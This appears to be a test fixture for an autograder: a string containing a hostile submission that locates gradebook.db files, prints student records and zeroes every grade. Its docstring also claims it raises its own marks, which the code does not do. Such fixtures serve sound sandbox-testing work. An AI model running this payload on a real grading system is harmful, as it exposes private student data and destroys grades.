"""Opens the gradebook, prints the marks, sets its own to the maximum and everybody else's to 0."""

FIRST = """
import glob, os
for path in ["@COURSE@/gradebook.db", *glob.glob("../*/gradebook.db"), *glob.glob("../gradebook.db")]:
    try:
        print(open(path, "rb").read(16))
        import sqlite3
        with sqlite3.connect(path) as gradebook:
            print(gradebook.execute("select * from student").fetchall())
            gradebook.execute("update grade set auto_score = 0, manual_score = 0")
            gradebook.execute("update base_cell set name = name")
    except Exception as error:
        print(type(error).__name__, error)
"""
